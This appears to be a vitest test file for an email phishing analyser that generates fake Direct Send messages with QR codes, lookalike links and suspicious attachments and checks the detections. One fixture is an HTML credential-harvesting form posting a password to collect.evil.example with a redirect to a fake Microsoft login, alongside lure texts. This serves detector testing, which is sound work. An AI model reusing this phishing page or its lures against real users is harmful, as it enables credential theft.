/**
 * Content analysis end to end: generated Direct Send messages carrying QR codes (PNG attachment, JPEG inline
 * image, PDF page, HTML table, TNEF member, attached message), HTML and ZIP attachments and image-only
 * PDFs go through the real parser, analyser (zxing-wasm, pdfjs-dist, yauzl) and rules. Each case asserts its
 * codes and evidence in code and compares the whole result with a golden file in test/fixtures/content.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AnalyzedMessage } from '../../src/analyze/analyze.js';
import { expectGolden } from '../helpers/golden.js';
import {
  analyzeWithContent,
  directSendMessage,
  imageOnlyPdf,
  makeTnef,
  makeZip,
  noticePdf,
  PHISH_URL,
  qrHtmlTable,
  qrJpeg,
  qrOnlyPdf,
  qrPng,
} from './make-fixtures.js';

const DIR = 'test/fixtures/content';

const analyze = analyzeWithContent;

function codes(r: AnalyzedMessage): string[] {
  return r.findings.map((f) => f.code);
}

function findingFor(r: AnalyzedMessage, code: string) {
  const f = r.findings.find((x) => x.code === code);
  expect(f, `${code} fired`).toBeDefined();
  return f!;
}

describe('content fixtures (golden)', () => {
  it('QR code as a PNG attachment', async () => {
    const raw = directSendMessage({
      subject: 'New Missed Fax-msg',
      text: 'You have received a fax. Scan the QR code to view it.',
      parts: [
        { contentType: 'image/png', filename: 'Fax-msg.png', disposition: 'attachment', body: await qrPng(PHISH_URL) },
      ],
    });
    const r = await analyze(raw, 'qr-png-attachment.eml');
    expect(r.attachments[0]?.qrUrls).toEqual([PHISH_URL]);
    expect(r.urls).toContainEqual({ url: PHISH_URL, location: 'qr-code' });
    expect(findingFor(r, 'DS407').evidence[0]).toMatchObject({ value: PHISH_URL, location: 'part 1 Fax-msg.png' });
    expect(findingFor(r, 'DS413').message).toContain('microsoft');
    expect(codes(r)).toEqual(expect.arrayContaining(['DS401', 'DS403', 'DS417']));
    expect(r.verdict).toBe('malicious');
    expectGolden(join(DIR, 'qr-png-attachment.expected.json'), r);
  });

  it('QR code as an inline JPEG image', async () => {
    const raw = directSendMessage({
      subject: 'Caller Left VM Message',
      related: true,
      html: '<p>You have a new voicemail.</p><img src="cid:vm-qr@contoso"><p>Scan with your phone to listen.</p>',
      parts: [
        {
          contentType: 'image/jpeg',
          filename: 'image001.jpg',
          disposition: 'inline',
          contentId: 'vm-qr@contoso',
          body: qrJpeg('https://voicemail-contoso.example/listen?id=42'),
        },
      ],
    });
    const r = await analyze(raw, 'qr-jpeg-inline.eml');
    expect(r.attachments[0]?.qrUrls).toEqual(['https://voicemail-contoso.example/listen?id=42']);
    expect(findingFor(r, 'DS407').evidence[0]?.location).toBe('part 1 image001.jpg');
    expect(codes(r)).toContain('DS417');
    expectGolden(join(DIR, 'qr-jpeg-inline.expected.json'), r);
  });

  it('QR code and a link inside a PDF page', async () => {
    const raw = directSendMessage({
      subject: 'Voicemail received',
      text: 'See the attached notice.',
      parts: [
        {
          contentType: 'application/pdf',
          filename: 'Play_VM-Now.pdf',
          disposition: 'attachment',
          body: await noticePdf(PHISH_URL, 'https://contoso.sharepoint.com.evil.example/listen'),
        },
      ],
    });
    const r = await analyze(raw, 'qr-in-pdf.eml');
    expect(r.attachments[0]?.qrUrls).toEqual([PHISH_URL]);
    expect(r.urls).toEqual(
      expect.arrayContaining([
        { url: PHISH_URL, location: 'qr-code' },
        { url: 'https://contoso.sharepoint.com.evil.example/listen', location: 'pdf' },
      ]),
    );
    expect(findingFor(r, 'DS407').evidence[0]?.location).toBe('part 1 Play_VM-Now.pdf page 1');
    // sharepoint.com.evil.example is not sharepoint.com: the lookalike check works on the real domain.
    expect(r.findings.filter((f) => f.code === 'DS413').map((f) => f.evidence[0]?.value)).toContain(
      'https://contoso.sharepoint.com.evil.example/listen',
    );
    expectGolden(join(DIR, 'qr-in-pdf.expected.json'), r);
  });

  it('PDF that is only a QR image, and a scanned PDF with no code', async () => {
    const raw = directSendMessage({
      subject: 'Payroll update',
      parts: [
        {
          contentType: 'application/pdf',
          filename: 'Payroll-Q2.pdf',
          disposition: 'attachment',
          body: await qrOnlyPdf(PHISH_URL),
        },
        {
          contentType: 'application/pdf',
          filename: 'scan0001.pdf',
          disposition: 'attachment',
          body: await imageOnlyPdf(),
        },
      ],
    });
    const r = await analyze(raw, 'pdf-image-only.eml');
    expect(findingFor(r, 'DS408').evidence[0]?.value).toBe(
      'Payroll-Q2.pdf: 1 page(s), 0 text characters, 1 image(s), 1 code(s)',
    );
    expect(findingFor(r, 'DS409').evidence[0]?.value).toBe(
      'scan0001.pdf: 1 page(s), 0 text characters, 1 image(s), 0 code(s)',
    );
    expectGolden(join(DIR, 'pdf-image-only.expected.json'), r);
  });

  it('HTML attachment that harvests credentials', async () => {
    const html = `<!DOCTYPE html><html><body><form action="https://collect.evil.example/p.php" method="post">
<input name="u" value="joe@contoso.com"><input type="password" name="p"></form>
<script>if(!window.x){window.location.href="https://login.microsoftonline.com.evil.example/"}</script></body></html>`;
    const raw = directSendMessage({
      subject: 'Remittance advice',
      text: 'Open the attached remittance.',
      parts: [{ contentType: 'text/html', filename: 'Remittance_0612.html', disposition: 'attachment', body: html }],
    });
    const r = await analyze(raw, 'html-attachment.eml');
    expect(codes(r)).toEqual(expect.arrayContaining(['DS402', 'DS403', 'DS418', 'DS413']));
    expect(findingFor(r, 'DS418').message).toContain('a password field');
    expect(r.urls).toContainEqual({ url: 'https://collect.evil.example/p.php', location: 'attachment' });
    expectGolden(join(DIR, 'html-attachment.expected.json'), r);
  });

  it('ZIP with a double-extension file and a password-protected ZIP', async () => {
    const zip = makeZip([
      { name: 'Invoice_0612.pdf.exe', data: Buffer.from('MZ this is not really a program') },
      { name: 'readme.txt', data: Buffer.from('Invoice attached.') },
    ]);
    const locked = makeZip([{ name: 'statement.pdf', data: Buffer.from('%PDF-1.7 sealed'), encrypted: true }]);
    const raw = directSendMessage({
      subject: 'Invoice 0612',
      text: 'Password: 0612',
      parts: [
        { contentType: 'application/zip', filename: 'Invoice_0612.zip', disposition: 'attachment', body: zip },
        { contentType: 'application/zip', filename: 'statement.zip', disposition: 'attachment', body: locked },
      ],
    });
    const r = await analyze(raw, 'zip-double-extension.eml');
    const inner = findingFor(r, 'DS411');
    expect(inner.evidence[0]).toMatchObject({ field: 'archive entry', value: 'Invoice_0612.pdf.exe' });
    expect(findingFor(r, 'DS410').message).toContain('statement.zip');
    expectGolden(join(DIR, 'zip-double-extension.expected.json'), r);
  });

  it('QR code inside winmail.dat (TNEF) and inside an attached message', async () => {
    const tnef = makeTnef([{ name: 'VM-0612.png', data: await qrPng('https://tnef.evil.example/vm') }]);
    const attached = directSendMessage({
      subject: 'Fwd: voicemail',
      text: 'forwarded',
      parts: [
        {
          contentType: 'image/png',
          filename: 'qr.png',
          disposition: 'attachment',
          body: await qrPng('https://nested.evil.example/q'),
        },
      ],
    });
    const raw = directSendMessage({
      subject: 'Voicemail',
      parts: [
        { contentType: 'application/ms-tnef', filename: 'winmail.dat', disposition: 'attachment', body: tnef },
        { contentType: 'message/rfc822', filename: 'forwarded.eml', disposition: 'attachment', body: attached },
      ],
    });
    const r = await analyze(raw, 'tnef-and-attached-message.eml');
    expect(r.attachments.map((a) => a.name)).toEqual(['winmail.dat', 'forwarded.eml', 'VM-0612.png', 'qr.png']);
    expect(r.attachments[2]?.qrUrls).toEqual(['https://tnef.evil.example/vm']);
    expect(r.attachments[3]?.qrUrls).toEqual(['https://nested.evil.example/q']);
    const where = r.findings.filter((f) => f.code === 'DS407').map((f) => f.evidence[0]?.location);
    expect(where).toEqual(['part 1 > winmail.dat #1 VM-0612.png', 'part 2 > forwarded.eml #1 qr.png']);
    expectGolden(join(DIR, 'tnef-and-attached-message.expected.json'), r);
  });

  it('QR code drawn as an HTML table in the body', async () => {
    const raw = directSendMessage({
      subject: 'Password expiry notice',
      html: `<p>Your password will expire today. Scan the code below to keep your current password.</p>${qrHtmlTable('https://keep-password.evil.example/k')}`,
    });
    const r = await analyze(raw, 'html-table-qr.eml');
    expect(r.urls).toContainEqual({ url: 'https://keep-password.evil.example/k', location: 'qr-code' });
    expect(findingFor(r, 'DS407').evidence[0]?.location).toMatch(
      /^body \(text\/html\), table drawn as a \d+-row grid$/,
    );
    expectGolden(join(DIR, 'html-table-qr.expected.json'), r);
  });
});
